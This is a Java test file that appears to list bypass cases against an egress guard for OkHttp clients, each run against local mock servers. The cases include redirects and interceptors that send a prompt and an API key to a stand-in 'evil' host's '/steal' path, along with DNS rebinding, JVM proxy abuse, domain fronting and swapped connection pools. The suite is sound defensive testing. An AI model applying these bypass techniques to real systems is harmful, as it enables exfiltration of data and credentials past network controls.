package dev.secureruntime.core.okhttp;

import dev.secureruntime.core.okhttp.BypassWorld.Layer;
import java.io.IOException;
import java.net.Authenticator;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.PasswordAuthentication;
import java.net.Proxy;
import java.net.ProxySelector;
import java.net.SocketAddress;
import java.net.URI;
import java.util.EnumSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import okhttp3.Protocol;
import okhttp3.Request;
import okhttp3.mockwebserver.MockResponse;

/** The ways around the guard by a call. */
enum CallBypass implements Bypass {
    PATH_THAT_IS_NOT_ALLOWED(Set.of(Layer.JUDGE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.call(BypassWorld.get(world.allowed("/admin")));
            return world.arrivedWithPath("/admin");
        }
    },
    HOST_THAT_IS_NOT_ALLOWED(Set.of(Layer.JUDGE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.call(world.post(world.evil("/steal")));
            return world.arrivedAt("evil");
        }
    },
    /** HTTP/2 sends the second host's request over the first one's connection: nothing is connected to. */
    COALESCED_CONNECTION(Set.of(Layer.JUDGE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.call(BypassWorld.get(world.allowed("/v1/first")));
            int connections = world.allowed.connections();
            world.call(BypassWorld.get("https://" + BypassWorld.EVIL + ":" + world.allowed.port() + "/"));
            return world.arrivedFor(BypassWorld.EVIL) && world.allowed.connections() == connections;
        }

        @Override
        public boolean runsOn(String protocol) {
            return protocol.equals("h2");
        }
    },
    NAME_THAT_LEADS_INSIDE(Set.of(Layer.DNS, Layer.SOCKETS)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.call(world.post("https://" + BypassWorld.REBOUND + ":" + world.inner.port() + "/"));
            return world.arrivedAt("inner");
        }
    },
    /** One address is refused by the socket, and OkHttp moves on to the next. */
    MIXED_ADDRESSES(Set.of(Layer.DNS)) {
        @Override
        public boolean arrives(BypassWorld world) throws IOException {
            world.resolver.set(BypassWorld.MIXED, "127.0.0.2", "127.0.0.1");
            world.call(BypassWorld.get("https://" + BypassWorld.MIXED + ":" + world.allowed.port() + "/mixed"));
            return world.arrivedWithPath("/mixed");
        }
    },
    /** A host of digits is looked up by nobody. */
    NUMBER_FOR_AN_ADDRESS(Set.of(Layer.JUDGE, Layer.SOCKETS)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.call(BypassWorld.get("http://2130706433:" + world.plain.getPort() + "/"));
            return world.arrivedInPlain() > 0;
        }

        @Override
        public boolean runsOn(String protocol) {
            return protocol.equals("http/1.1");
        }
    },
    /** A plain socket asks the JVM for a SOCKS proxy, though the client was told to use none. */
    SOCKS_PROXY_OF_THE_JVM_BENEATH_A_SOCKET(Set.of(Layer.SOCKETS)) {
        @Override
        public boolean arrives(BypassWorld world) throws IOException {
            return reachesProxyOfTheJvm(world, Proxy.Type.SOCKS);
        }
    },
    /** OkHttp itself opens {@code Socket(proxy)}, past every factory. */
    SOCKS_PROXY_OF_THE_JVM_IN_OKHTTP(Set.of(Layer.PROXY)) {
        @Override
        public boolean arrives(BypassWorld world) throws IOException {
            return reachesProxyOfTheJvm(world, Proxy.Type.SOCKS);
        }
    },
    HTTP_PROXY_OF_THE_JVM(Set.of(Layer.PROXY, Layer.SOCKETS)) {
        @Override
        public boolean arrives(BypassWorld world) throws IOException {
            return reachesProxyOfTheJvm(world, Proxy.Type.HTTP);
        }
    },
    REDIRECT_TO_ANOTHER_HOST(Set.of(Layer.REDIRECTS, Layer.DNS, Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.answer = request -> LoopbackServer.redirect(307, world.evil("/steal"));
            world.call(world.post(world.allowed("/v1/chat")));
            return world.arrived.stream()
                    .anyMatch(one -> one.server().equals("evil")
                            && one.body().equals(BypassWorld.PROMPT)
                            && one.head().contains("sk-of-the-allowed-host"));
        }
    },
    /** Every decision on hosts would let this one pass; it is the body and the key that may not move. */
    REDIRECT_TO_ANOTHER_ALLOWED_HOST(Set.of(Layer.REDIRECTS, Layer.DNS, Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            String partner = "https://" + BypassWorld.PARTNER + ":" + world.allowed.port() + "/";
            world.answer = request -> request.getPath().equals("/v1/chat")
                    ? LoopbackServer.redirect(307, partner)
                    : new MockResponse().setBody("{}");
            world.call(world.post(world.allowed("/v1/chat")));
            return world.arrived.stream()
                    .anyMatch(one -> one.authority().startsWith(BypassWorld.PARTNER)
                            && (one.body().equals(BypassWorld.PROMPT)
                                    || one.head().contains("sk-of-the-allowed-host")));
        }
    },
    REDIRECT_TO_ANOTHER_PATH(Set.of(Layer.REDIRECTS, Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.answer = request -> LoopbackServer.redirect(302, "/admin");
            world.call(BypassWorld.get(world.allowed("/v1/models")));
            return world.arrivedWithPath("/admin");
        }
    },
    AUTHENTICATOR_WITH_ANOTHER_HOST(Set.of(Layer.AUTHENTICATORS, Layer.DNS, Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            Bypass.challenge(world, world.evil("/steal"));
            world.call(BypassWorld.get(world.allowed("/v1/models")));
            return world.arrivedAt("evil");
        }
    },
    AUTHENTICATOR_OF_THE_JVM(Set.of(Layer.AUTHENTICATORS)) {
        @Override
        public boolean arrives(BypassWorld world) {
            Authenticator.setDefault(new Authenticator() {
                @Override
                protected PasswordAuthentication getPasswordAuthentication() {
                    return new PasswordAuthentication("carried", "away".toCharArray());
                }
            });
            try {
                world.answer = request -> Bypass.unauthorized();
                world.authenticator = okhttp3.Authenticator.JAVA_NET_AUTHENTICATOR;
                world.call(BypassWorld.get(world.allowed("/v1/models")));
                return world.arrived.stream()
                        .anyMatch(one -> one.head().toLowerCase(Locale.ROOT).contains("authorization: basic"));
            } finally {
                Authenticator.setDefault(null);
            }
        }
    },
    /** Code behind ours, before OkHttp's own: what an instrumentation or a changed OkHttp could be. */
    MEDDLER_WITH_ANOTHER_HOST(Set.of(Layer.DNS, Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.meddler = chain -> chain.proceed(
                    chain.request().newBuilder().url(world.evil("/steal")).build());
            world.call(world.post(world.allowed("/v1/chat")));
            return world.arrivedAt("evil");
        }
    },
    MEDDLER_WITH_ANOTHER_PATH(Set.of(Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.meddler = chain -> chain.proceed(
                    chain.request().newBuilder().url(world.allowed("/admin")).build());
            world.call(BypassWorld.get(world.allowed("/v1/models")));
            return world.arrivedWithPath("/admin");
        }
    },
    DOMAIN_FRONTING_BY_THE_CALLER(Set.of(Layer.JUDGE, Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.call(BypassWorld.get(world.allowed("/v1/models"))
                    .newBuilder()
                    .header("Host", BypassWorld.EVIL)
                    .build());
            return world.arrivedFor(BypassWorld.EVIL);
        }
    },
    DOMAIN_FRONTING_BY_A_MEDDLER(Set.of(Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.meddler = chain -> chain.proceed(chain.request()
                    .newBuilder()
                    .header("Host", BypassWorld.EVIL)
                    .build());
            world.call(BypassWorld.get(world.allowed("/v1/models")));
            return world.arrivedFor(BypassWorld.EVIL);
        }
    },
    /** A pool that is shared hands over a connection that another component was allowed to open. */
    CONNECTION_OF_ANOTHER_COMPONENT(Set.of(Layer.POOL, Layer.DNS, Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            Request request = BypassWorld.get("http://" + BypassWorld.ALLOWED + ":" + world.plain.getPort() + "/");
            world.call(world.opener, request);
            long opened = world.arrivedInPlain();
            world.call(world.agent, request);
            return opened == 1 && world.arrivedInPlain() == 2;
        }

        @Override
        public boolean runsOn(String protocol) {
            return protocol.equals("http/1.1");
        }
    },
    SWAPPED_RESOLVER(Set.of(Layer.SOCKETS, Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) throws IOException {
            world.resolver.set(BypassWorld.REBOUND, "192.0.2.1");
            world.meddler = chain -> SwappedParts.dns(chain, host -> List.of(InetAddress.getByName("127.0.0.1")))
                    .proceed(chain.request());
            world.call(world.post("https://" + BypassWorld.REBOUND + ":" + world.inner.port() + "/"));
            return world.arrivedAt("inner");
        }

        @Override
        public boolean runsOnRelease(String okHttp) {
            return SwappedParts.available();
        }
    },
    SWAPPED_SOCKET_FACTORY(Set.of(Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.meddler = chain -> SwappedParts.socketFactory(chain, SwappedParts.leadingTo(world.evil.port()))
                    .proceed(chain.request());
            world.call(world.post(world.allowed("/v1/chat")));
            return world.arrivedAt("evil");
        }

        @Override
        public boolean runsOnRelease(String okHttp) {
            return SwappedParts.available();
        }
    },
    /** A pool with a connection that another client opened, with our resolver and TLS settings, and sockets of its own. */
    SWAPPED_POOL(Set.of(Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) {
            world.meddler = chain -> SwappedParts.pool(
                            chain,
                            SwappedParts.poolWithConnectionTo(
                                    world.evil.port(), List.of(Protocol.HTTP_2, Protocol.HTTP_1_1), chain))
                    .proceed(chain.request());
            world.call(world.post(world.allowed("/v1/chat")));
            return world.arrived.stream()
                    .anyMatch(one -> one.server().equals("evil") && one.body().equals(BypassWorld.PROMPT));
        }

        @Override
        public boolean runsOnRelease(String okHttp) {
            return SwappedParts.available();
        }
    },
    SWAPPED_PROXY(Set.of(Layer.SOCKETS, Layer.WIRE)) {
        @Override
        public boolean arrives(BypassWorld world) throws IOException {
            try (TunnelProxy proxy = new TunnelProxy()) {
                Proxy swapped = new Proxy(Proxy.Type.HTTP, new InetSocketAddress("127.0.0.1", proxy.port()));
                world.meddler = chain -> SwappedParts.proxy(chain, swapped).proceed(chain.request());
                world.call(world.post(world.allowed("/v1/chat")));
                return world.arrivedAt("allowed") && proxy.connections() > 0;
            }
        }

        @Override
        public boolean runsOnRelease(String okHttp) {
            return SwappedParts.available();
        }
    };

    private final Set<Layer> layers;

    CallBypass(Set<Layer> layers) {
        this.layers = EnumSet.copyOf(layers);
    }

    @Override
    public Set<Layer> layers() {
        return layers;
    }

    private static boolean reachesProxyOfTheJvm(BypassWorld world, Proxy.Type type) throws IOException {
        ProxySelector before = ProxySelector.getDefault();
        try (TunnelProxy proxy = new TunnelProxy()) {
            ProxySelector.setDefault(new ProxySelector() {
                @Override
                public List<Proxy> select(URI uri) {
                    return List.of(new Proxy(type, new InetSocketAddress("127.0.0.1", proxy.port())));
                }

                @Override
                public void connectFailed(URI uri, SocketAddress address, IOException failure) {}
            });
            world.call(world.post(world.allowed("/v1/chat")));
            return proxy.connections() > 0;
        } finally {
            ProxySelector.setDefault(before);
        }
    }
}
